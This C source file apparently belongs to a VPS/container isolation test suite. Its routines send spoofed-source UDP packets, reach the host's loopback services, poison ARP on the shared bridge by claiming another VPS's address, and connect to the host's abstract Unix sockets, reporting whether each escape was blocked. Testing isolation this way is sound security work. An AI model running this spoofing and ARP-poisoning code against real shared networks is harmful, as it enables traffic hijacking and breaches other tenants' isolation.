/* The network: spoofed sources from a routed VPS, packets to the host's
 * loopback, ARP poisoning on the bridge, the host's abstract Unix sockets. */
#include "attack.h"

#include <arpa/inet.h>
#include <net/if.h>
#include <net/if_arp.h>
#include <netinet/in.h>
#include <netinet/ip.h>
#include <netinet/udp.h>
#include <linux/if_ether.h>
#include <linux/if_packet.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <time.h>


static uint16_t net_csum(const void *data, size_t len) {
    const uint16_t *p = data;
    uint32_t sum = 0;
    for (; len > 1; len -= 2) sum += *p++;
    if (len) sum += *(const uint8_t *)p;
    while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
    return (uint16_t)~sum;
}

/* An IPv4/UDP datagram with any source; returns its length. */
static size_t net_udp_packet(unsigned char *pkt, size_t size, struct in_addr src, struct in_addr dst,
                             uint16_t port, const char *payload) {
    size_t plen = strlen(payload), len = sizeof(struct iphdr) + sizeof(struct udphdr) + plen;
    if (len > size) return 0;
    memset(pkt, 0, len);
    struct iphdr *ip = (struct iphdr *)pkt;
    struct udphdr *udp = (struct udphdr *)(pkt + sizeof *ip);
    ip->version = 4;
    ip->ihl = 5;
    ip->ttl = 64;
    ip->protocol = IPPROTO_UDP;
    ip->tot_len = htons((uint16_t)len);
    ip->id = htons((uint16_t)(rand() & 0xffff));
    ip->saddr = src.s_addr;
    ip->daddr = dst.s_addr;
    ip->check = net_csum(ip, sizeof *ip);
    udp->source = htons(40000 + (rand() % 1000));
    udp->dest = htons(port);
    udp->len = htons((uint16_t)(sizeof *udp + plen));
    udp->check = 0; /* optional for IPv4 */
    memcpy(pkt + sizeof *ip + sizeof *udp, payload, plen);
    return len;
}

/* Sends PKT out of IFNAME as a link-layer frame (bypassing the VPS's own
 * routing), to the broadcast MAC on an Ethernet-like device. */
static int net_send_l2(const char *ifname, const unsigned char *pkt, size_t len) {
    int s = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_IP));
    if (s < 0) return errno;
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", ifname);
    struct sockaddr_ll sll;
    memset(&sll, 0, sizeof sll);
    sll.sll_family = AF_PACKET;
    sll.sll_protocol = htons(ETH_P_IP);
    sll.sll_ifindex = (int)if_nametoindex(ifname);
    if (ioctl(s, SIOCGIFHWADDR, &ifr) == 0 && ifr.ifr_hwaddr.sa_family == ARPHRD_ETHER) {
        sll.sll_halen = 6;
        memset(sll.sll_addr, 0xff, 6);
    }
    int err = sendto(s, pkt, len, 0, (struct sockaddr *)&sll, sizeof sll) < 0 ? errno : 0;
    close(s);
    return err;
}

static int net_send_raw(const unsigned char *pkt, size_t len, struct in_addr dst) {
    int s = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (s < 0) return errno;
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_addr = dst};
    int err = sendto(s, pkt, len, 0, (struct sockaddr *)&to, sizeof to) < 0 ? errno : 0;
    close(s);
    return err;
}

ATTACK(net_spoof, "raw IPv4/UDP with other VPSes' and the host's source addresses to a host listener") {
    /* argv: IFNAME DST PORT TOKEN SRC=TAG... (one SRC should be our own: the
     * runner's control that the path works) */
    if (argc < 6) return verdict_error("usage: net_spoof IFNAME DST PORT TOKEN SRC=TAG...");
    const char *ifname = argv[1], *token = argv[4];
    struct in_addr dst;
    if (inet_pton(AF_INET, argv[2], &dst) != 1) return verdict_error("bad DST %s", argv[2]);
    uint16_t port = (uint16_t)atoi(argv[3]);
    srand((unsigned)time(NULL));
    char res[2048] = "";
    for (int i = 5; i < argc; i++) {
        char src_s[64], tag[64];
        if (sscanf(argv[i], "%63[^=]=%63s", src_s, tag) != 2) continue;
        struct in_addr src;
        if (inet_pton(AF_INET, src_s, &src) != 1) continue;
        for (int via = 0; via < 2; via++) {
            char payload[160];
            unsigned char pkt[256];
            snprintf(payload, sizeof payload, "vzsec-%s-%s-%s", token, tag, via ? "l2" : "raw");
            size_t len = net_udp_packet(pkt, sizeof pkt, src, dst, port, payload);
            int err = 0;
            for (int k = 0; k < 3; k++) err = via ? net_send_l2(ifname, pkt, len) : net_send_raw(pkt, len, dst);
            snprintf(res + strlen(res), sizeof res - strlen(res), "%s%s/%s from %s: %s", res[0] ? ", " : "",
                     tag, via ? "packet socket" : "raw socket", src_s, err ? ename(err) : "sent");
        }
    }
    return verdict_ready("%s", res);
}

ATTACK(net_host_loopback, "reach services bound to the host's 127.0.0.1 (TCP connect, UDP frames to 127.0.0.1)") {
    /* argv: IFNAME OWN_IP TCPPORT UDPPORT TOKEN */
    if (argc < 6) return verdict_error("usage: net_host_loopback IFNAME OWN_IP TCPPORT UDPPORT TOKEN");
    struct in_addr lo, own;
    inet_pton(AF_INET, "127.0.0.1", &lo);
    if (inet_pton(AF_INET, argv[2], &own) != 1) return verdict_error("bad OWN_IP");
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons((uint16_t)atoi(argv[3])), .sin_addr = lo};
    int cerr = connect(s, (struct sockaddr *)&to, sizeof to) < 0 ? errno : 0;
    close(s);
    if (!cerr) escape_note("connected to 127.0.0.1:%s (a listener the host holds on its loopback)", argv[3]);
    char payload[128];
    unsigned char pkt[256];
    snprintf(payload, sizeof payload, "vzsec-%s-loopback", argv[5]);
    size_t len = net_udp_packet(pkt, sizeof pkt, own, lo, (uint16_t)atoi(argv[4]), payload);
    int uerr = 0;
    for (int k = 0; k < 3; k++) uerr = net_send_l2(argv[1], pkt, len);
    return cerr == 0 ? finish()
                     : verdict_ready("TCP connect 127.0.0.1:%s: %s; UDP frame to 127.0.0.1:%s out of %s: %s", argv[3],
                                     ename(cerr), argv[4], argv[1], uerr ? ename(uerr) : "sent");
}

struct net_arp {
    uint16_t htype, ptype;
    uint8_t hlen, plen;
    uint16_t op;
    uint8_t sha[6], spa[4], tha[6], tpa[4];
} __attribute__((packed));

ATTACK(net_arp_poison, "gratuitous ARP on the bridge claiming another VPS's address") {
    /* argv: IFNAME VICTIM_IP [HOST_IP] */
    if (argc < 3) return verdict_error("usage: net_arp_poison IFNAME VICTIM_IP [HOST_IP]");
    int s = socket(AF_PACKET, SOCK_DGRAM | SOCK_CLOEXEC, htons(ETH_P_ARP));
    if (s < 0) return verdict_blocked("AF_PACKET socket: %s", ename(errno));
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    snprintf(ifr.ifr_name, sizeof ifr.ifr_name, "%s", argv[1]);
    if (ioctl(s, SIOCGIFHWADDR, &ifr) < 0) return verdict_error("SIOCGIFHWADDR %s: %s", argv[1], ename(errno));
    struct in_addr victim, host = {0};
    inet_pton(AF_INET, argv[2], &victim);
    if (argc > 3) inet_pton(AF_INET, argv[3], &host);
    struct sockaddr_ll sll;
    memset(&sll, 0, sizeof sll);
    sll.sll_family = AF_PACKET;
    sll.sll_protocol = htons(ETH_P_ARP);
    sll.sll_ifindex = (int)if_nametoindex(argv[1]);
    sll.sll_halen = 6;
    memset(sll.sll_addr, 0xff, 6);
    int sent = 0, err = 0;
    for (int round = 0; round < 10; round++) {
        for (int op = 1; op <= 2; op++) {
            struct net_arp a;
            memset(&a, 0, sizeof a);
            a.htype = htons(ARPHRD_ETHER);
            a.ptype = htons(ETH_P_IP);
            a.hlen = 6;
            a.plen = 4;
            a.op = htons((uint16_t)op);
            memcpy(a.sha, ifr.ifr_hwaddr.sa_data, 6);
            memcpy(a.spa, &victim, 4);
            /* op 1: gratuitous request (target = the claimed address);
             * op 2: a reply aimed at the host's address. */
            memcpy(a.tpa, op == 1 || !host.s_addr ? (void *)&victim : (void *)&host, 4);
            if (op == 2) memset(a.tha, 0xff, 6);
            if (sendto(s, &a, sizeof a, 0, (struct sockaddr *)&sll, sizeof sll) < 0)
                err = errno;
            else
                sent++;
        }
        usleep(100000);
    }
    close(s);
    unsigned char *m = (unsigned char *)ifr.ifr_hwaddr.sa_data;
    if (sent == 0) return verdict_blocked("sending ARP: %s", ename(err));
    return verdict_ready("sent %d gratuitous ARP requests/replies on %s claiming %s is at %02x:%02x:%02x:%02x:%02x:%02x",
                         sent, argv[1], argv[2], m[0], m[1], m[2], m[3], m[4], m[5]);
}

ATTACK(net_abstract_unix, "connect to an abstract Unix socket the host listens on") {
    (void)argc, (void)argv;
    const char *name = getenv("VZSEC_ABSTRACT");
    if (!name) return verdict_error("no VZSEC_ABSTRACT");
    struct sockaddr_un sa = {.sun_family = AF_UNIX};
    size_t nlen = strlen(name);
    if (nlen + 1 > sizeof sa.sun_path) return verdict_error("name too long");
    memcpy(sa.sun_path + 1, name, nlen);
    socklen_t sl = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + nlen);
    int s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (connect(s, (struct sockaddr *)&sa, sl) == 0) {
        ssize_t w = write(s, "vzsec-abstract\n", 15);
        (void)w;
        escape_note("connected to the host's abstract socket @%s", name);
    } else {
        block_note("connect @%s: %s", name, ename(errno));
    }
    close(s);
    char buf[65536];
    if (read_text("/proc/net/unix", buf, sizeof buf) == 0 && strstr(buf, name))
        escape_note("/proc/net/unix lists @%s", name);
    /* The name is free in here: binding it shows the namespaces differ. */
    s = socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (bind(s, (struct sockaddr *)&sa, sl) == 0) block_note("@%s is free in the VPS's network namespace", name);
    close(s);
    return finish();
}
